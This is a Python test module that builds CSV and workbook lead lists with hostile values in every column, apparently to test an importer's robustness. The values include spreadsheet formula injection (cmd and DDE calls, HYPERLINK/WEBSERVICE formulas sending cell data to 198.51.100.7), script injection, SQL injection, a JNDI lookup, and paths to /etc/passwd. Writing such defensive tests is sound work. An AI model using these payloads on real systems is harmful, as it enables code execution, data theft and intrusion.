"""What may stand in a cell of an otherwise good list: each payload in every column, as CSV and as workbook."""

from __future__ import annotations

import csv
import io
import random
from collections.abc import Iterator
from xml.sax.saxutils import escape

from tests.hostile.kinds import HEADINGS, Kind, done, good_rows
from tests.hostile.packing import stored
from tests.leads.workbooks import parts, sheet

FORMULAS = {
    "a command": "=cmd|' /C calc'!A0",
    "a command behind a plus": "+cmd|' /C calc'!A0",
    "a command behind a minus": "-2+3+cmd|' /C calc'!A0",
    "a function behind an at": '@SUM(1+1)*cmd|" /C calc"!A0',
    "DDE": '=DDE("cmd";"/C calc";"x")',
    "a link that sends data": '=HYPERLINK("http://198.51.100.7/?"&A2,"open")',
    "a request to a web service": '=WEBSERVICE("http://198.51.100.7/"&A2)',
    "an import of XML": '=IMPORTXML(CONCAT("http://198.51.100.7/",A2),"//a")',
    "a formula behind a tab": "\t=1+1",
    "a formula behind a return": "\r=1+1",
    "a formula behind a newline": "\n=1+1",
    "a formula behind an apostrophe": "'=1+1",
    "a full-width formula": "\uff1d1+1",
    "a formula behind a quote": '"=1+1',
    "a formula for another list separator": "a;=1+1",
    "an array formula": "{=SUM(1)}",
}
MARKUP = {
    "a script": "<script>alert(1)</script>",
    "an image that runs": '"><img src=x onerror=alert(1)>',
    "a drawing that runs": "<svg/onload=alert(1)>",
    "a link that runs": '<a href="javascript:alert(1)">x</a>',
    "an end of a style": "</style><script>alert(1)</script>",
    "an entity": "&lt;script&gt;&#x3c;&amp;",
    "rich text of a workbook": "<r><t>x</t></r>",
    "an escape of a workbook": "_x003C_f_x003E_",
    "an end of CDATA": "]]><f>1+1</f>",
    "Typst source": '#read("/etc/passwd") #panic("x") $ * _ `',
    "a template": "{{7*7}} ${7*7} #{7*7} %s %n {0}",
    "a query": "'; DROP TABLE leads; --",
    "a lookup": "${jndi:ldap://198.51.100.7/a}",
    "JSON": '"}],"x":{"$ref":"#"}',
    "a web address": "http://198.51.100.7/a",
    "a network folder": "\\\\198.51.100.7\\share\\a.xlsx",
}
CHARACTERS = {
    "bidirectional overrides": "\u202eLTD (YTP) \u2066ACME\u2069\u202c",
    "zero-width characters": "A\u200bC\u200cM\u200dE\u2060\ufeff",
    "only zero-width characters": "\u200b\u200b\u200d",
    "a tower of accents": "E" + "\u0301" * 3_000,
    "families of emoji": "\U0001f468\u200d\U0001f469\u200d\U0001f467" * 50,
    "line separators": "A\u2028B\u2029C\u0085D",
    "vertical tabs and form feeds": "A\x0bB\x0cC\x1cD\x1dE",
    "noncharacters": "A\ufffeB\uffffC\U0010ffff",
    "terminal escapes": "\x1b[2J\x1b]0;x\x07A",
    "look-alike letters": "\u0410\u0421\u041c\u0415 \u0422R\u0410DING",
    "tags": "A\U000e0041\U000e0042\U000e007f",
}
NUMBERS = {
    "not a number": "NaN",
    "an infinite number": "1e999",
    "a negative infinity": "-Infinity",
    "a number of 400 digits": "9" * 400,
    "a date in 1899": "1899-12-30",
    "a negative zero": "-0",
    "digits of another script": "\u0660\u0661\u0662\u0663\u0664\u0665",
    "a fraction without end": "0." + "3" * 5_000,
}
PATHS = {
    "a path upwards": "../../../../etc/passwd",
    "a path of a device": "\\\\.\\PhysicalDrive0 CON NUL",
    "a file address": "file:///etc/passwd",
}
LONG = {
    "a name of 5,000 words": "VAN DER " * 5_000 + "MERWE",
    "an e-mail of at signs": "a@" * 10_000,
    "an e-mail without end": "a" * 10_000 + "@" + "b." * 5_000,
    "a number without end": "+27" + "1" * 30_000,
    "numbers upon numbers": "082 123 4567 / " * 2_000,
    "brackets": "(" * 20_000,
    "company types": "(PTY) LTD " * 3_000,
    "commas": ", " * 10_000,
    "hyphens and apostrophes": "O'-" * 10_000,
    "blanks": "A" + " " * 30_000 + "B",
    "a cell as long as the format allows": "X" * 32_767,
}
PAYLOADS = FORMULAS | MARKUP | CHARACTERS | NUMBERS | PATHS | LONG


def rows_with(rng: random.Random, payload: str) -> list[tuple[str, ...]]:
    """Return a list whose last lead has the payload in every column but the one of the business's name, which has it too.

    The last heading has it as well.
    """
    rows = [(*HEADINGS[:-1], payload), *good_rows(rng)]
    rows.append((f"{payload} {rng.randrange(1000)}", *(payload for _ in HEADINGS[1:])))
    return rows


def as_csv(rng: random.Random, payload: str) -> bytes:
    """Return such a list as CSV, in one of the delimiters that occur."""
    text = io.StringIO(newline="")
    csv.writer(text, delimiter=rng.choice(",;|")).writerows(rows_with(rng, payload))
    return text.getvalue().encode()


def as_workbook(rng: random.Random, payload: str) -> bytes:
    """Return such a list as a workbook of inline strings."""
    return stored(parts(sheet(*map(_row, rows_with(rng, payload)))))


def _row(cells: tuple[str, ...]) -> str:
    return (
        "<row>"
        + "".join(f'<c t="inlineStr"><is><t xml:space="preserve">{_xml(cell)}</t></is></c>' for cell in cells)
        + "</row>"
    )


def _xml(text: str) -> str:
    # What XML cannot carry, the format escapes in a way of its own.
    return "".join(escape(c) if c in "\t\n\r" or " " <= c not in "\ufffe\uffff" else f"_x{ord(c):04X}_" for c in text)


def _kinds() -> Iterator[Kind]:
    for name, payload in PAYLOADS.items():
        yield done(f"{name}, in a CSV", lambda rng, payload=payload: as_csv(rng, payload), file_name="leads.csv")
        yield done(f"{name}, in a workbook", lambda rng, payload=payload: as_workbook(rng, payload))


CELLS: tuple[Kind, ...] = tuple(_kinds())
